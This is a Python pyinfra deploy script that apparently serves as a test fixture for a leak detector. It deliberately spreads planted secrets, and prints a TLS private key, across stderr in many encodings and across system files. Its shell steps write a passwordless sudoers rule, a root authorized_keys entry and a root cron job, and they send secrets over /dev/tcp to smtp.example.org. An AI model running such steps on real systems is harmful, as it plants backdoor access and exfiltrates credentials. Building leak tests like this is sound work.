"""Tells every secret of the keys in every way that deploys have of telling one by mistake."""

import base64
import html
import json
import shlex
import sys
import urllib.parse
from io import StringIO
from pathlib import Path

from pyinfra.operations import files, server

# Not from the keys: what of them is secret is for redrill to find out.
secrets = json.loads(Path("planted.json").read_text())["planted"]


def say(*words):
    print(*words, file=sys.stderr)


for name, secret in secrets.items():
    coded = base64.b64encode(secret.encode()).decode()
    say("raw", name, secret)
    say("base64", base64.b64encode(f"a{secret}".encode()).decode(), coded, base64.b64encode(f"ab{secret}".encode()).decode())
    say("url", urllib.parse.quote(secret, safe=""), urllib.parse.quote(secret), urllib.parse.urlencode({"a": secret}))
    say("json", json.dumps({"a": secret}), json.dumps(json.dumps(secret)))
    say("python", repr(secret), repr(secret.encode()), "shell", shlex.quote(secret), "html", html.escape(secret))
    say("hex", secret.encode().hex())
    for at in range(1, len(secret)):
        say("cut", secret[:at])
        say(secret[at:])
    for at in range(1, len(coded), 3):
        say("cut", coded[:at])
        say(coded[at:])
private = Path("../keys/tls.key").read_text()
say(private, repr(private), private.splitlines()[1])
sys.stderr.buffer.write(b"bytes " + Path("../keys/latin1").read_bytes() + b"\n")
say("pattern tok_0123456789ab, and region-eu-7b is public")

known = list(secrets.values())
first, second, third, odd = secrets["password"], secrets["json"], secrets["dsn"], secrets["odd"]
told = "".join(f"{name}={secret}\n" for name, secret in secrets.items())
files.put(name=f"Tell {secrets['yaml']}", src=StringIO(told), dest="/etc/told.conf", mode="644")
# The text changes with each deploy, so that findings show it.
server.shell(
    name="Tell more each time",
    commands=[f"echo {shlex.quote(secret)} $(wc -c < /etc/more.conf 2>/dev/null) >> /etc/more.conf" for secret in known[:3]],
)
unit = f"""[Service]
Type=oneshot
Environment=A={first} B={second}
ExecStart=/bin/sh -c 'echo journal $A $B {third}; exit 3'
"""
files.put(name="Write a unit", src=StringIO(unit), dest="/etc/systemd/system/teller.service")
rule = f"nobody ALL=(root) NOPASSWD: /usr/bin/x --token {first} --other {second}"
key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7xXxYQ6GQvzZ8m7Wm8m2rWm2vQvzZ8m7Wm8m2rWm2v c"
server.shell(
    name="Tell the system",
    commands=[
        "systemctl daemon-reload; systemctl start teller.service; true",
        f"mkdir -p /etc/sudoers.d /root/.ssh /etc/cron.d; echo '{rule}' > /etc/sudoers.d/teller; chmod 440 /etc/sudoers.d/teller",
        f"echo 'command=\"/x {first} {second}\" {key}' >> /root/.ssh/authorized_keys",
        f"echo '* * * * * root /x {first}' > /etc/cron.d/teller",
        f"id teller >/dev/null 2>&1 || useradd -c 'told-{first}' teller; id other >/dev/null 2>&1 || useradd -c 'told-{second}' other",
        f"ln -sfn /x/{first} /etc/told-link; touch /etc/told-{first} /etc/told-{third} '/etc/told-$RANDOM'",
        f"echo 'console {first}' > /dev/console || true",
        f"systemd-cat echo 'logged {first} {third}' || true",
    ],
)
ask = f"GET http://deb.debian.org/x?t={first} HTTP/1.1\\r\\nHost: deb.debian.org\\r\\n\\r\\n"
letter = f"HELO a\\r\\nMAIL FROM:<{first}@example.org>\\r\\nRCPT TO:<{second}@example.org>\\r\\nDATA\\r\\nSubject: told {third}\\r\\n\\r\\nx\\r\\n.\\r\\nQUIT\\r\\n"
server.shell(
    name="Tell the network",
    commands=[
        f"exec 3<>/dev/tcp/127.0.0.1/3128; printf '{ask}' >&3; timeout 3 cat <&3 | head -1; true",
        f"exec 3<>/dev/tcp/smtp.example.org/25; printf '{letter}' >&3; timeout 3 cat <&3; true",
    ],
    _shell_executable="bash",
)
server.shell(name="Fail and tell", commands=[f"echo failed {first} {second} {shlex.quote(odd)} >&2; exit 4"], _ignore_errors=True)
